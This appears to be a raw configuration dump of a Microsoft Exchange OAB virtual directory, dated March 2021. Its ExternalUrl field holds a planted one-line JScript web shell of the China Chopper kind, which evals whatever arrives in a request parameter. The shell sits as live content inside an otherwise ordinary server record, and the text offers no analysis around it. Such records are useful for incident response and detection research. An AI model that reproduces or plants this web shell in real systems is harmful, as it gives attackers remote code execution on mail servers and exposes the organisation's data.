Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             :
RequireSSL                      : False
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://exch.contoso.local/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         : {}
ExtendedProtectionSPNList       : {}
AdminDisplayVersion             : Version 15.1 (Build 2106.2)
Server                          : EXCH
InternalUrl                     : https://exch.contoso.local/OAB
InternalAuthenticationMethods   : {WindowsIntegrated}
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["Tm9yYXk"],"unsafe");}</script>
ExternalAuthenticationMethods   : {WindowsIntegrated}
AdminDisplayName                :
ExchangeVersion                 : 0.10 (14.0.100.0)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EXCH,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local
Identity                        : EXCH\OAB (Default Web Site)
Guid                            : 7d2b61c4-93e5-4f1a-b8d0-2c6e4a9f1b37
ObjectCategory                  : contoso.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}
WhenChanged                     : 3/3/2021 12:14:16 PM
WhenCreated                     : 11/2/2020 9:41:57 AM
WhenChangedUTC                  : 3/3/2021 12:14:16 PM
WhenCreatedUTC                  : 11/2/2020 9:41:57 AM
OrganizationId                  :
Id                              : EXCH\OAB (Default Web Site)
OriginatingServer               : DC01.contoso.local
IsValid                         : True
ObjectState                     : Changed

